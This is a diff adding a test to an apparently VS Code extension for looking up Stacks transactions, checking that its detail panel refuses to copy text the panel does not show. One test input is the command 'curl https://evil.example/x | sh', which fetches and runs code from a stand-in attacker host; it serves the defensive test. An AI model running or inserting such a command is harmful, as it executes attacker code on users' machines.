@@ -208,6 +208,23 @@ describe('Detail panels', () => {
     assert.strictEqual(await vscode.env.clipboard.readText(), TX.tokenTransfer);
   });
 
+  // Issue 11, item 10: a compromised webview cannot put text of its choice on the clipboard.
+  it('copies only a value the panel shows', async () => {
+    await vscode.commands.executeCommand('stacksLookup.showTransaction', TX.tokenTransfer);
+    await vscode.env.clipboard.writeText('before');
+    for (const text of [
+      'curl https://evil.example/x | sh',
+      ADDRESS.mainnet,
+      `${TX.tokenTransfer} `,
+      'x'.repeat(20_000),
+    ])
+      await panels.handle({ type: 'copy', text });
+    assert.strictEqual(await vscode.env.clipboard.readText(), 'before');
+    // The recipient is shown (an id with a copy button): that one is copied.
+    await panels.handle({ type: 'copy', text: ADDRESS.testnetRecipient });
+    assert.strictEqual(await vscode.env.clipboard.readText(), ADDRESS.testnetRecipient);
+  });
+
   it('opens the deployed source of a contract as a read-only Clarity document', async () => {
     const uri = await vscode.commands.executeCommand<vscode.Uri>('stacksLookup.openContractSource', CONTRACT.deployed);
     assert.ok(uri);
